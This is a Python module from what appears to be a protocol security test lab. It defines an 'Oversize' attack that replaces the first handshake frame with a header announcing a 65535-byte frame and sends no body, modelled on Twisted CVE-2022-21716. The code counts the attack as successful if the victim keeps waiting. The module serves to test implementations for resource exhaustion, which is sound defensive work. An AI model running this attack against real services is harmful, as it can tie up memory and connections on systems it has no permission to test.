"""Oversize: announce a frame that is too long."""

import asyncio

from plytalk.core.contracts.peers import Role
from plytalk.core.contracts.properties import Property
from plytalk.core.pipeline.handshake_io import MESSAGE
from plytalk.core.registry.hookspecs import hookimpl
from plytalk.core.stack.selection import Stack
from plytalk.lab.attacks.attack import Attack, Passing
from plytalk.lab.attacks.interceptor import Interceptor
from plytalk.lab.attacks.run import Evidence

LONG, PATIENCE, FOREVER = 65535, 1.0, float("inf")


class Oversize(Attack):
    """Sends the header of a very long frame in place of the first handshake frame, and nothing behind it.

    A program that allocates before it checks gives memory to anyone who asks.
    """

    name = "oversize"
    row = "A40"
    reference = "Twisted CVE-2022-21716"

    def __init__(self, seed: int = 0) -> None:
        super().__init__(seed)
        self._times: dict[bool, float] = {}
        self._victim: Role | None = None

    @classmethod
    def applies(cls, stack: Stack) -> bool:
        return stack.handshake.speaks_first is not None and Property.BOUNDARIES in stack.framer.gives

    def frame(self, interceptor: Interceptor, passing: Passing) -> None:
        if self._victim or not passing.handshake:
            return
        self._victim = passing.sender.other
        self._times[False] = asyncio.get_running_loop().time()
        interceptor.log(f"announced a frame of {LONG} bytes to the {self._victim.value}")
        interceptor.send_raw(self._victim, interceptor.encode(passing.kind or MESSAGE, bytes(LONG))[:-LONG])

    def end(self, interceptor: Interceptor, sender: Role) -> None:
        if sender is self._victim:
            self._times.setdefault(True, asyncio.get_running_loop().time())
        super().end(interceptor, sender)

    def succeeded(self, evidence: Evidence) -> bool:
        return False in self._times and self._times.get(True, FOREVER) - self._times[False] >= PATIENCE


@hookimpl
def layers() -> list[type[Oversize]]:
    return [Oversize]
